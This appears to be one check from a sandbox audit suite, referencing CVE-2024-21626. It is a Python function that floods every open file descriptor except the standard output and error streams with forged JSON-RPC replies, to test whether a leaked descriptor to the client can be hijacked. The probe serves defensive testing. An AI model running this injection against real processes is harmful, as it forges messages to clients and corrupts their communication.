# title: Answer the client on every open descriptor
# tries: Writes replies of JSON-RPC to every descriptor but the usual streams. One that was left open may be the server's connection to its client.
# impact: Integrity
# reference: CVE-2024-21626
# proof: contact
# host: never, descriptors of whoever runs the audit would be written to
# advice: Close all descriptors but those that code needs before it runs.


def attempt(host):
    import json
    import os

    written = []
    for descriptor in [0, *range(3, 256)]:
        try:
            os.set_blocking(descriptor, False)
            for number in range(40):
                line = json.dumps({"jsonrpc": "2.0", "id": number, "result": {"forged": host["mark"]}})
                os.write(descriptor, f"{line}\n".encode())
            written.append(descriptor)
        except OSError:
            pass
    return f"written to {written}" if written else None
